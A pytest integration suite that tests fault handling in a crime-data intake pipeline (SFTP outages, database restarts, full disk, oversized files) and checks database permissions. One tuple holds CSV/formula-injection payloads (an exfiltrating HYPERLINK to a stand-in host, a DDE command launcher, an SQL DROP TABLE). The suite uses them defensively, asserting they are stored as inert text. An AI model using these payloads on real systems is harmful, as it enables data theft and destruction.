"""The fault matrix of issue 11 on the real services (docs/FAULTS.md): the project's sshd, PostGIS and gpg, and the
feed's stages as the DAG's tasks call them, each a stage of Airflow's (a stage that raises is what Airflow retries).

Each test ends with nothing lost (the partner's originals in the inbox, or in processed/ once loaded), nothing
loaded twice (each row once, each file one ledger row) and the partner told (a report in its reports/, or a reason
in quarantine/). Restarting sshd or PostGIS happens only here, while this session holds the machine's test lock,
and each is brought back (and checked) in a ``finally``.
"""
from __future__ import annotations

import csv
import errno
import io
import re
import shutil
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from typing import Any

import psycopg2
import pytest

from csp_observatory import (demo, demo_data, intake_download, intake_quarantine, loading, pipeline, postcodes_sources,
                             sftp)
from csp_observatory.schema_loading import schema_for
from service_faults import DroppingFile, postgis_cluster, restart_postgis, sshd_stopped, tmpfs

pytestmark = pytest.mark.integration

FEED = "police_recorded_crime"
TABLES = {"offences": "prc_offences", "offenders": "prc_offenders", "victims": "prc_victims"}
# Each test's own months, far from every other test's.
P_NET, P_TWO_A, P_TWO_B, P_FULL, P_BIG = "209801", "209802", "209803", "209804", "209805"
# Values a spreadsheet or a database would run if they were ever treated as anything but text.
FORMULAS = ('=HYPERLINK("http://x.invalid/?d="&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+1",
            "'; DROP TABLE depersonalised.prc_offences; --")
PERIODS = (P_NET, P_TWO_A, P_TWO_B, P_FULL, P_BIG)
RUN_ID = "fault_matrix"
STAGES = ("decrypt_and_verify", "parse_and_validate", "clean", "geocode", "sanitise", "load")
SUPPLY_TABLES = ("observatory.deliveries", "observatory.supplies", "observatory.rejected_rows",
                 "observatory.validation_results", "observatory.supply_metadata")


# ------------------------------------------------------------------ helpers


def _query(settings, sql: str, *args: Any) -> list[tuple]:
    """A query on a connection of its own: a PostGIS restart breaks every connection opened before it."""
    with closing(psycopg2.connect(settings.database_url, connect_timeout=10)) as conn, conn.cursor() as cur:
        cur.execute(sql, args)
        return cur.fetchall() if cur.description else []


def _forget(settings) -> None:
    with closing(psycopg2.connect(settings.database_url, connect_timeout=10)) as conn:
        with conn.cursor() as cur:
            for period in PERIODS:
                for table in [*(f"depersonalised.{t}" for t in TABLES.values()), *SUPPLY_TABLES]:
                    cur.execute("SELECT to_regclass(%s) IS NOT NULL", (table,))
                    if cur.fetchone()[0]:
                        cur.execute(f"DELETE FROM {table} WHERE supply_id = %s",  # noqa: S608
                                    (f"{FEED}/{period}",))
        conn.commit()
    for period in PERIODS:
        for root in (settings.staging_dir, settings.reports_dir):
            shutil.rmtree(Path(root) / FEED / period, ignore_errors=True)


@pytest.fixture(scope="module")
def reference_loaded(settings):
    return demo.ensure_reference(settings)


@pytest.fixture()
def fresh(settings, clean_partner_folders, reference_loaded):
    """Nothing of these months in PostGIS, staging or the reports before the test, nor after it."""
    _forget(settings)
    yield
    _forget(settings)


def _supply(period: str, n: int = 60) -> dict[str, str]:
    reference = postcodes_sources.shipped_reference()
    return demo_data.make_police_recorded_crime(period, reference[~reference["terminated"]], n_offences=n).files


def _with_values(text: str, column: str, values: tuple[str, ...]) -> str:
    """The CSV with ``column`` of its first rows set to ``values``."""
    rows = list(csv.reader(io.StringIO(text)))
    at = rows[0].index(column)
    for row, value in zip(rows[1:], values):
        row[at] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


def _drop(settings, period: str, files: dict[str, str]) -> list[str]:
    """As the partner: the supply and its metadata file, encrypted, signed and uploaded; returns the names."""
    return demo.drop_demo_supply(settings, schema_for(FEED), period, files=files)


def _ls(settings, sub: str) -> list[str]:
    with sftp.connect_observatory(settings) as client:
        return sorted(client.listdir(settings.partner_folder("police", sub)))


def _loaded(settings, period: str) -> dict[str, int]:
    return {f: _query(settings, f"SELECT count(*) FROM depersonalised.{t} WHERE supply_id = %s",  # noqa: S608
                      f"{FEED}/{period}")[0][0] for f, t in TABLES.items()}


def _rows(text: str) -> int:
    return sum(1 for line in text.splitlines()[1:] if line.strip())


def _assert_loaded_once(settings, period: str, files: dict[str, str], names: list[str]) -> None:
    """Every row of the supply is in PostGIS or among its rejected rows, once; each file has one ledger row,
    loaded; the originals are in processed/ and the partner has the supply's report."""
    loaded = _loaded(settings, period)
    for f, table in TABLES.items():
        rejected = _query(settings, "SELECT count(*) FROM observatory.rejected_rows WHERE supply_id = %s AND "
                                    "file_name = %s", f"{FEED}/{period}", f)[0][0]
        assert loaded[f] > 0 and loaded[f] + rejected == _rows(files[f]), (period, f, loaded, rejected)
        # the partner's row number is unique in a file: a row loaded twice would repeat it
        distinct = _query(settings, f"SELECT count(DISTINCT source_row) FROM depersonalised.{table} "  # noqa: S608
                                    "WHERE supply_id = %s", f"{FEED}/{period}")[0][0]
        assert distinct == loaded[f], (f, distinct, loaded[f])
    ledger = _query(settings, "SELECT file_name, status, count(*) FROM observatory.deliveries WHERE supply_id = %s "
                              "GROUP BY file_name, status", f"{FEED}/{period}")
    assert sorted(ledger) == sorted((n, "loaded", 1) for n in names), ledger
    assert set(names) <= set(_ls(settings, "processed")) and not set(names) & set(_ls(settings, "inbox"))
    assert any(n.startswith(f"{FEED}_{period}_quality_") and n.endswith(".html") for n in _ls(settings, "reports"))


def _rest(work: list[str], settings, stages: tuple[str, ...] = STAGES) -> list[str]:
    for stage in stages:
        work = getattr(pipeline, stage)(work, settings)
    return work


def _staged_files(settings, period: str) -> list[Path]:
    return [p for p in (Path(settings.staging_dir) / FEED / period).rglob("*") if p.is_file()]


# ------------------------------------------------------------------ the tests


def test_sshd_down_at_collect_then_a_session_dropped_mid_download_loses_nothing_and_loads_once(
        settings, fresh, monkeypatch):
    files = _supply(P_NET, n=400)
    files["offences"] = _with_values(files["offences"], "method_of_entry", FORMULAS)
    names = _drop(settings, P_NET, files)
    assert pipeline.ready_periods(FEED, settings) == [P_NET]          # the sensor saw the supply

    # sshd restarts between the sensor and the collect: the collect fails (Airflow retries it), nothing moved.
    with sshd_stopped(settings):
        with pytest.raises(OSError) as down:
            pipeline.collect(FEED, [P_NET], RUN_ID, settings)
        assert not isinstance(down.value, AssertionError)
    assert _ls(settings, "inbox") == sorted(names)

    # The retry's SFTP session dies while the first file is downloading.
    killed: list[int] = []
    real_download = sftp.download

    def dropping_download(client: Any, remote: str, local: Path, digest: Any = None) -> int:
        class Client:
            def open(self, path: str, mode: str) -> DroppingFile:
                return DroppingFile(client.open(path, mode), client, killed)
        return real_download(Client(), remote, local, digest)   # type: ignore[arg-type]

    monkeypatch.setattr(intake_download, "download", dropping_download)
    with pytest.raises(Exception) as dropped:
        pipeline.collect(FEED, [P_NET], RUN_ID, settings)
    assert killed and not isinstance(dropped.value, AssertionError), dropped.value
    monkeypatch.setattr(intake_download, "download", real_download)
    # Nothing lost, nothing half-staged, nothing ledgered: the next try starts from the inbox as it was.
    assert _ls(settings, "inbox") == sorted(names)
    assert _staged_files(settings, P_NET) == []
    assert _query(settings, "SELECT count(*) FROM observatory.deliveries WHERE supply_id = %s",
                  f"{FEED}/{P_NET}")[0][0] == 0

    work = pipeline.collect(FEED, [P_NET], RUN_ID, settings)
    work = _rest(work, settings)
    outcome = pipeline.report_and_archive(FEED, work, settings)
    assert [s["status"] for s in outcome["supplies"]] == ["loaded"]
    _assert_loaded_once(settings, P_NET, files, names)
    before = _loaded(settings, P_NET)
    # Values that look like formulas or SQL are stored as the text they are (and the table is still there).
    stored = _query(settings, "SELECT method_of_entry FROM depersonalised.prc_offences WHERE supply_id = %s AND "
                              "method_of_entry = ANY(%s)", f"{FEED}/{P_NET}", list(FORMULAS))
    assert sorted(v for (v,) in stored) == sorted(FORMULAS)

    # A duplicate delivery: the very same bytes again. Not loaded twice; the partner is told where they went.
    with sftp.connect_observatory(settings) as client:
        for name in names:
            client.posix_rename(f"{settings.partner_folder('police', 'processed')}/{name}",
                                f"{settings.inbox('police')}/{name}")
    work = pipeline.collect(FEED, [P_NET], RUN_ID, settings)
    outcome = pipeline.report_and_archive(FEED, _rest(work, settings), settings)
    assert [s["status"] for s in outcome["supplies"]] == ["duplicate"]
    assert _loaded(settings, P_NET) == before
    assert _ls(settings, "inbox") == [] and set(names) <= set(_ls(settings, "processed"))
    partner_json = max(n for n in _ls(settings, "reports") if n.startswith(f"{FEED}_{P_NET}_quality_")
                       and n.endswith(".json"))
    with sftp.connect_observatory(settings) as client, \
            client.open(f"{settings.partner_folder('police', 'reports')}/{partner_json}") as fh:
        assert "already loaded as supply" in fh.read().decode("utf-8")


def test_two_months_in_one_drop_with_postgis_restarted_mid_load_each_loads_once(settings, fresh, monkeypatch):
    cluster = postgis_cluster(settings)
    supplies = {p: _supply(p) for p in (P_TWO_A, P_TWO_B)}
    names = {p: _drop(settings, p, files) for p, files in supplies.items()}
    work = _rest(pipeline.collect(FEED, [P_TWO_A, P_TWO_B], RUN_ID, settings), settings, STAGES[:-1])

    # PostGIS restarts while the first month's load is in its transaction, between two tables' COPYs.
    real_copy = loading._copy_rows
    calls: list[int] = []

    def copy_then_restart(cur: Any, target: Any, *rows: Any) -> None:
        calls.append(1)
        if len(calls) == 2:
            restart_postgis(cluster, settings)
        real_copy(cur, target, *rows)

    monkeypatch.setattr(loading, "_copy_rows", copy_then_restart)
    work = pipeline.load(work, settings)
    monkeypatch.setattr(loading, "_copy_rows", real_copy)
    assert len(calls) > 2, "the restart fell outside the load"
    # The first month's transaction rolled back whole; the second month loaded on a connection of its own.
    assert sum(_loaded(settings, P_TWO_A).values()) == 0
    assert _query(settings, "SELECT count(*) FROM observatory.deliveries WHERE supply_id = %s AND status = 'loaded'",
                  f"{FEED}/{P_TWO_A}")[0][0] == 0
    outcome = {s["supply_id"]: s for s in pipeline.report_and_archive(FEED, work, settings)["supplies"]}
    assert outcome[f"{FEED}/{P_TWO_A}"]["status"] == "failed" and outcome[f"{FEED}/{P_TWO_A}"]["level"] == "red"
    _assert_loaded_once(settings, P_TWO_B, supplies[P_TWO_B], names[P_TWO_B])
    # The partner is told, and the original encrypted files wait in the inbox for the next run.
    assert any(n.startswith(f"{FEED}_{P_TWO_A}_quality_") for n in _ls(settings, "reports"))
    assert _ls(settings, "inbox") == sorted(names[P_TWO_A])

    # The next run loads the first month once; the second is not touched again.
    later = _loaded(settings, P_TWO_B)
    work = _rest(pipeline.collect(FEED, [P_TWO_A], RUN_ID, settings), settings)
    pipeline.report_and_archive(FEED, work, settings)
    _assert_loaded_once(settings, P_TWO_A, supplies[P_TWO_A], names[P_TWO_A])
    assert _loaded(settings, P_TWO_B) == later


def test_a_full_staging_disk_fails_the_stage_blames_no_partner_and_the_rerun_loads_once(
        settings, fresh, tmp_path):
    files = _supply(P_FULL, n=400)
    names = _drop(settings, P_FULL, files)
    with sftp.connect_observatory(settings) as client:
        encrypted = sum(a.st_size or 0 for a in client.listdir_attr(settings.inbox("police")))
    # Room for the encrypted files and a little more, not for the offences file's plaintext.
    room = ((encrypted + 40 * 1024) // 4096 + 1) * 4096
    assert len(files["offences"].encode()) > room - encrypted
    with tmpfs(tmp_path / "staging", room) as small:
        full = replace(settings, staging_dir=small)
        work = pipeline.collect(FEED, [P_FULL], RUN_ID, full)
        with pytest.raises(OSError) as no_room:
            pipeline.decrypt_and_verify(work, full)
        assert no_room.value.errno == errno.ENOSPC and not isinstance(no_room.value, AssertionError)
        # What Airflow runs after the stage's last try: the report (the partner is told), plaintext gone.
        outcome = pipeline.report_and_archive(FEED, work, full)
        assert [s["status"] for s in outcome["supplies"]] == ["failed"]
        assert not [p for p in small.rglob("*") if p.is_file() and p.name != "manifest.json"
                    and "report" not in p.parts]
    # Not the partner's fault: nothing quarantined, every original still in the inbox, nothing loaded.
    assert _ls(settings, "quarantine") == []
    assert _ls(settings, "inbox") == sorted(names)
    assert sum(_loaded(settings, P_FULL).values()) == 0
    assert any(n.startswith(f"{FEED}_{P_FULL}_quality_") for n in _ls(settings, "reports"))
    # With room again, the next run loads the supply once.
    work = _rest(pipeline.collect(FEED, [P_FULL], RUN_ID, settings), settings)
    pipeline.report_and_archive(FEED, work, settings)
    _assert_loaded_once(settings, P_FULL, files, names)


def test_a_1_gib_file_is_refused_from_its_size_without_being_downloaded(settings, fresh, partner_sftp,
                                                                        monkeypatch):
    monkeypatch.delenv("CSP_MAX_FILE_BYTES", raising=False)
    names = _drop(settings, P_BIG, _supply(P_BIG))
    big = next(n for n in names if n.startswith("prc_offences_"))
    # A sparse 1 GiB file on the server: it costs no disk, and its listed size is what the observatory judges.
    with partner_sftp.open(f"/inbox/{big}.part", "wb") as fh:
        fh.seek((1 << 30) - 1)
        fh.write(b"\0")
    partner_sftp.posix_rename(f"/inbox/{big}.part", f"/inbox/{big}")
    assert partner_sftp.stat(f"/inbox/{big}").st_size == 1 << 30
    assert pipeline.collect(FEED, [P_BIG], RUN_ID, settings) == []
    assert big in _ls(settings, "quarantine")
    note = f"{settings.partner_folder('police', 'quarantine')}/{big}{intake_quarantine.REASON_SUFFIX}"
    with sftp.connect_observatory(settings) as client, client.open(note) as fh:
        reason = fh.read().decode("utf-8")
    assert re.search(r"1\.0 GiB .*not downloaded", reason), reason
    assert _staged_files(settings, P_BIG) == []
    # The supply's other files wait for a right-sized offences file; nothing was loaded.
    assert _ls(settings, "inbox") == sorted(n for n in names if n != big)
    assert sum(_loaded(settings, P_BIG).values()) == 0


def test_the_analyst_login_reads_no_restricted_table_and_writes_nowhere(settings, demo_config):
    """Every table of the restricted schemas, and a write of every kind to every table the analyst may read."""
    with closing(psycopg2.connect(settings.database_url, connect_timeout=10)) as conn, conn.cursor() as cur:
        cur.execute("SELECT schemaname, tablename FROM pg_tables WHERE schemaname IN "
                    "('personal', 'observatory', 'depersonalised', 'dq', 'reference') ORDER BY 1, 2")
        tables = cur.fetchall()
    restricted = [t for t in tables if t[0] in ("personal", "observatory")]
    readable = [t for t in tables if t[0] not in ("personal", "observatory")]
    assert restricted and readable
    with closing(psycopg2.connect(demo_config["analyst_url"], connect_timeout=10)) as analyst:
        analyst.autocommit = True

        def refused(statement: str) -> None:
            with analyst.cursor() as cur, pytest.raises(psycopg2.errors.InsufficientPrivilege):
                cur.execute(statement)

        for schema_name, table in restricted:
            refused(f'SELECT 1 FROM "{schema_name}"."{table}" LIMIT 1')
        for schema_name, table in readable:
            name = f'"{schema_name}"."{table}"'
            with analyst.cursor() as cur:
                cur.execute(f"SELECT 1 FROM {name} LIMIT 1")          # it may read them
            column = _any_column(settings, schema_name, table)
            for statement in (f"INSERT INTO {name} DEFAULT VALUES", f"UPDATE {name} SET {column} = NULL WHERE false",
                              f"DELETE FROM {name} WHERE false", f"TRUNCATE {name}"):
                refused(statement)
        for schema_name in ("public", "personal", "observatory", "depersonalised", "dq", "reference"):
            refused(f'CREATE TABLE "{schema_name}".analyst_was_here (i int)')


def _any_column(settings, schema_name: str, table: str) -> str:
    # not an identity or generated column: PostGIS refuses to set those before it looks at privileges
    (column,) = _query(settings, "SELECT quote_ident(column_name) FROM information_schema.columns WHERE "
                                 "table_schema = %s AND table_name = %s AND is_identity = 'NO' AND "
                                 "is_generated = 'NEVER' ORDER BY ordinal_position LIMIT 1", schema_name, table)[0]
    return column
